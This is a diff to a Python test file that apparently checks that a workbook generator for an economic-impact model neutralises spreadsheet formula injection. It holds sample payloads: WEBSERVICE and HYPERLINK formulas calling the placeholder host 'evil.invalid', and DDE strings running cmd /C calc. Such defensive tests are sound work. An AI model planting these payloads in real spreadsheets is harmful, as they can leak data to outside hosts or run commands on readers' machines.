@@ -5,10 +5,13 @@ cells (``data_type == 's'``); only the What-if sheet's own formulas are formulas
 """
 from __future__ import annotations
 
+import shutil
+
 import openpyxl
 import pytest
 
 import impact
+from impact.assumptions import DEFAULT_DIR
 
 from .conftest import edit
 
@@ -17,18 +20,21 @@ MARK = "evil.invalid"
 INJECTED = {
     "title": ("settings.yaml", "  title: Economic impact of a U.S. FTO designation of Mexican cartels\n",
               f"  title: '=WEBSERVICE(\"http://{MARK}/title\")'\n"),
-    "source": ("channels.yaml",
-               "        BEA International Transactions, travel imports from Mexico, 2024 (26.3 bn). Low end: 18 bn derived for\n"
-               "        U.S. air tourists (INEGI receipts 32.96 bn x 0.85 air share x 0.636 U.S. air share), literature.md A1.\n",
+    "source": ("channels.yaml",   # first line of a folded (>) source: the value now starts with '='
+               "        BEA International Transactions, travel imports from Mexico, 2024 (26.3 bn). "
+               "Low end: 18 bn derived for\n",
                f"        =HYPERLINK(\"http://{MARK}/source\", \"click\")\n"),
     "label": ("channels.yaml", "      label: Time cost of a day in transit\n",
               f"      label: \"+cmd|' /C calc'!A0 {MARK}/label\"\n"),
     "description": ("channels.yaml",
-                    "  description: U.S. general imports of goods from Mexico (Census, customs value), annual sums of monthly forecasts.\n",
+                    "  description: U.S. general imports of goods from Mexico (Census, customs value), "
+                    "annual sums of monthly forecasts.\n",
                     f"  description: \"-2+3+cmd|' /C calc'!A0 {MARK}/description\"\n"),
-    "scenario": ("scenarios.yaml", "  label: FTO designation (S0)\n", f"  label: \"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}/scenario\"\n"),
+    "scenario": ("scenarios.yaml", "  label: FTO designation (S0)\n",
+                 f"  label: \"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}/scenario\"\n"),
     "shock": ("scenarios.yaml",
-              "      source: \"USDA-APHIS suspensions of about one week (Feb-2022, Jun-2024; AP); high end = -6 % of exposed lines.\"\n",
+              "      source: \"USDA-APHIS suspensions of about one week (Feb-2022, Jun-2024; AP); "
+              "high end = -6 % of exposed lines.\"\n",
               f"      source: \"=1+1+HYPERLINK(\\\"http://{MARK}/shock\\\")\"\n"),
 }
 
@@ -36,10 +42,6 @@ INJECTED = {
 @pytest.fixture(scope="module")
 def workbook(tmp_path_factory, cache_dir):
     root = tmp_path_factory.mktemp("inject")
-    import shutil
-
-    from impact.assumptions import DEFAULT_DIR
-
     adir = root / "assumptions"
     shutil.copytree(DEFAULT_DIR, adir)
     for file, old, new in INJECTED.values():
